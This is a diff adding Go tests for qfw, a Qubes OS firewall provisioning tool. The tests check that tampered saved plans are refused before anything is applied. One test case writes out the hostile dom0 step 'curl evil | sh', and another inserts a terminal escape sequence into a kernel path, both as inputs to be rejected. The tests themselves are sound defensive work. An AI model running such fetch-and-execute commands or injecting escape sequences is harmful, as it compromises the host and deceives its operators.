@@ -2,9 +2,12 @@ package main
 
 import (
 	"bytes"
+	"cmp"
 	"context"
 	"crypto/sha256"
 	"encoding/hex"
+	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -390,4 +393,184 @@ func (s *provisionSetup) addOldFirewall(t *testing.T) {
 		"policy.cue": readFile(t, filepath.Join(s.dir, "policy.cue")) +
 			`firewalls: "old-fw": backend: mirage: {version: "0.9.4", kernel: {path: "` + filepath.Join(s.dir, "other.xen") + `", sha256: "` + hex.EncodeToString(sum[:]) + `"}}` + "\n",
 	})
+}
+
+// A saved plan's firewall section is applied as it shows or not at all:
+// apply brings the qube its want names to that state, so an edit that
+// points want at another qube, or gives it other settings, or hides a
+// step or the image's install, is refused before anything is shown or
+// sent; so is a plan made from a management qube, applied in dom0.
+func TestProvisionSavedPlanEdited(t *testing.T) {
+	for _, tc := range []struct {
+		name string
+		edit func(fw map[string]any)
+		err  string
+	}{{
+		name: "want names another qube",
+		edit: func(fw map[string]any) {
+			want := fw["want"].(map[string]any)
+			want["Name"], want["Features"] = "work", []any{}
+			want["Properties"] = []any{map[string]any{"Name": "netvm", "Value": "sys-net"}}
+		},
+		err: "PLAN:90:15: firewalls[0].want: not the state qfw plans for the firewall qube mirage-fw of release 0.9.5",
+	}, {
+		name: "want gives another netvm",
+		edit: func(fw map[string]any) {
+			props := fw["want"].(map[string]any)["Properties"].([]any)
+			props[8].(map[string]any)["Value"] = "work"
+		},
+		err: "", // a state qfw plans, but not the one shown
+	}, {
+		name: "a step's text is not its step",
+		edit: func(fw map[string]any) {
+			fw["steps"].([]any)[1].(map[string]any)["text"] = "set feature qubes-firewall to \"0\""
+		},
+		err: "PLAN:19:9: firewalls[0].steps[1]: not a step written as qfw writes it",
+	}, {
+		name: "a step hidden",
+		edit: func(fw map[string]any) {
+			steps := fw["steps"].([]any)
+			fw["steps"] = steps[:len(steps)-2]
+		},
+		err: "", // refused when apply plans the steps again
+	}, {
+		name: "the image goes elsewhere",
+		edit: func(fw map[string]any) {
+			fw["kernel"].(map[string]any)["target"] = "/etc/mirage-firewall/vmlinuz"
+		},
+		err: "--plan PLAN: firewalls[0].kernel.target: /etc/mirage-firewall/vmlinuz is not in KERNELS, where this qfw keeps kernels (--kernels-dir)",
+	}, {
+		name: "the install hidden",
+		edit: func(fw map[string]any) { fw["kernel"].(map[string]any)["install"] = false },
+		err:  "--plan PLAN: firewalls[0].kernel.install: false, but the image in KERNELS/mirage-firewall/vmlinuz is missing or another; plan again",
+	}, {
+		name: "a dom0 step to run",
+		edit: func(fw map[string]any) {
+			k := fw["kernel"].(map[string]any)
+			k["install"], k["dom0_step"] = false, "curl evil | sh"
+		},
+		err: "--plan PLAN: firewalls[0].kernel: the plan was made in a management qube (--qrexec), where dom0 installs the image; plan again here",
+	}, {
+		name: "a path that moves the cursor",
+		edit: func(fw map[string]any) { fw["kernel"].(map[string]any)["path"] = "/tmp/x\x1b[2K" },
+		err:  `PLAN:6:17: firewalls[0].kernel.path: "/tmp/x\x1b[2K" holds the control character '\x1b'`,
+	}} {
+		t.Run(tc.name, func(t *testing.T) {
+			s := newProvisionSetup(t, map[string]adminapitest.Qube{
+				"work": {Class: "StandaloneVM", IP: "10.137.0.11", Netvm: "sys-net"},
+			}, "")
+			saved := filepath.Join(s.dir, "plan.json")
+			if code, _, stderr := s.run(t, "plan", "--out", saved); code != 0 {
+				t.Fatalf("plan: exit %d: %s", code, stderr)
+			}
+			var p map[string]any
+			if err := json.Unmarshal([]byte(readFile(t, saved)), &p); err != nil {
+				t.Fatal(err)
+			}
+			tc.edit(p["firewalls"].([]any)[0].(map[string]any))
+			b, _ := json.MarshalIndent(p, "", "  ")
+			writeTestFiles(t, s.dir, map[string]string{"plan.json": string(b)})
+			var out, errOut bytes.Buffer
+			code := runIn([]string{"apply", "--plan", saved, "--socket", s.srv.Path, "--kernels-dir", s.kernels, "--auto-approve",
+				"--lock", filepath.Join(s.dir, "lock"), "--data-dir", filepath.Join(s.dir, "data")}, strings.NewReader(""), &out, &errOut)
+			got := strings.NewReplacer(saved, "PLAN", s.kernels, "KERNELS").Replace(errOut.String())
+			if tc.err == "" {
+				if code != 1 || !strings.Contains(got, "mirage-fw: the qube changed since the plan was made; plan again") {
+					t.Errorf("apply: exit %d: %s", code, got)
+				}
+			} else if code != 1 || got != "qfw: "+tc.err+"\n" {
+				t.Errorf("apply: exit %d:\n%s\nwant:\nqfw: %s", code, got, tc.err)
+			}
+			if w := writes(s.srv); w != nil {
+				t.Errorf("calls made: %v", w)
+			}
+			if q, _ := s.srv.Qube("work"); q.Netvm != "sys-net" {
+				t.Errorf("work's netvm: %s", q.Netvm)
+			}
+		})
+	}
+}
+
+// A saved plan that plans one firewall qube twice, or two images into one
+// kernel directory, is refused: the second would undo the first.
+func TestProvisionSavedPlanTwice(t *testing.T) {
+	for _, tc := range []struct {
+		name string
+		edit func(fws []any) []any
+		err  string
+	}{{
+		name: "one qube twice",
+		edit: func(fws []any) []any { return append(fws, fws[0]) },
+		err:  `PLAN:160:15: firewalls[1].name: firewall qube "mirage-fw" is planned twice, also at firewalls[0]`,
+	}, {
+		name: "two images in one directory",
+		edit: func(fws []any) []any {
+			var other map[string]any
+			b, _ := json.Marshal(fws[0])
+			json.Unmarshal(b, &other)
+			other["name"] = "other-fw"
+			other["want"].(map[string]any)["Name"] = "other-fw"
+			other["kernel"].(map[string]any)["sha256"] = strings.Repeat("ab", 32)
+			return append(fws, other)
+		},
+		err: "PLAN:154:17: firewalls[1].kernel: another image in KERNELS/mirage-firewall/vmlinuz than firewalls[0] wants there",
+	}} {
+		t.Run(tc.name, func(t *testing.T) {
+			s := newProvisionSetup(t, nil, "")
+			saved := filepath.Join(s.dir, "plan.json")
+			if code, _, stderr := s.run(t, "plan", "--out", saved); code != 0 {
+				t.Fatalf("plan: exit %d: %s", code, stderr)
+			}
+			var p map[string]any
+			if err := json.Unmarshal([]byte(readFile(t, saved)), &p); err != nil {
+				t.Fatal(err)
+			}
+			p["firewalls"] = tc.edit(p["firewalls"].([]any))
+			p["summary"].(map[string]any)["provision"] = 2
+			b, _ := json.MarshalIndent(p, "", "  ")
+			writeTestFiles(t, s.dir, map[string]string{"plan.json": string(b)})
+			var out, errOut bytes.Buffer
+			code := runIn([]string{"apply", "--plan", saved, "--socket", s.srv.Path, "--kernels-dir", s.kernels, "--auto-approve",
+				"--lock", filepath.Join(s.dir, "lock"), "--data-dir", filepath.Join(s.dir, "data")}, strings.NewReader(""), &out, &errOut)
+			got := strings.NewReplacer(saved, "PLAN", s.kernels, "KERNELS").Replace(errOut.String())
+			if code != 1 || got != "qfw: "+tc.err+"\n" {
+				t.Errorf("apply: exit %d:\n%s\nwant:\nqfw: %s", code, got, tc.err)
+			}
+			if w := writes(s.srv); w != nil {
+				t.Errorf("calls made: %v", w)
+			}
+		})
+	}
+}
+
+// A saved plan's kernel is installed where it was planned: a plan made in
+// a management qube, which leaves a step to run in dom0, is applied there
+// and refused in dom0, where qfw would install the image without the plan
+// showing it; a plan made in dom0 is refused in a management qube.
+func TestProvisionSavedPlanWhere(t *testing.T) {
+	s := newProvisionSetup(t, nil, "")
+	client := &adminapi.Client{Transport: adminapi.Socket{Path: s.srv.Path}}
+	mgmt := &provisioner{client: client, kernelsDir: s.kernels}
+	dom0 := &provisioner{client: client, kernelsDir: s.kernels, inDom0: true}
+	fw := ir.Firewall{Name: "mirage-fw", Netvm: "sys-net", MirageVersion: "0.9.5", Backend: ir.Mirage,
+		Provision: &ir.Provision{KernelPath: s.img, KernelSHA256: s.imgSHA}}
+	for _, tc := range []struct {
+		name        string
+		made, check *provisioner
+		err         string
+	}{
+		{"management qube, applied there", mgmt, mgmt, ""},
+		{"dom0, applied there", dom0, dom0, ""},
+		{"management qube, applied in dom0", mgmt, dom0, "--plan p.json: firewalls[0].kernel: the plan was made in a management qube (--qrexec), where dom0 installs the image; plan again here"},
+		{"dom0, applied in a management qube", dom0, mgmt, "--plan p.json: firewalls[0].kernel: the plan was made in dom0, where qfw installs the image; plan again here"},
+	} {
+		fp, err := tc.made.plan(context.Background(), fw)
+		if err != nil {
+			t.Fatal(err)
+		}
+		err = tc.check.checkSavedFirewalls("p.json", &plan{Firewalls: []firewallPlan{fp}})
+		if got := fmt.Sprint(err); tc.err == "" && err != nil || tc.err != "" && got != tc.err {
+			t.Errorf("%s: %v; want %s", tc.name, err, cmp.Or(tc.err, "<nil>"))
+		}
+	}
 }
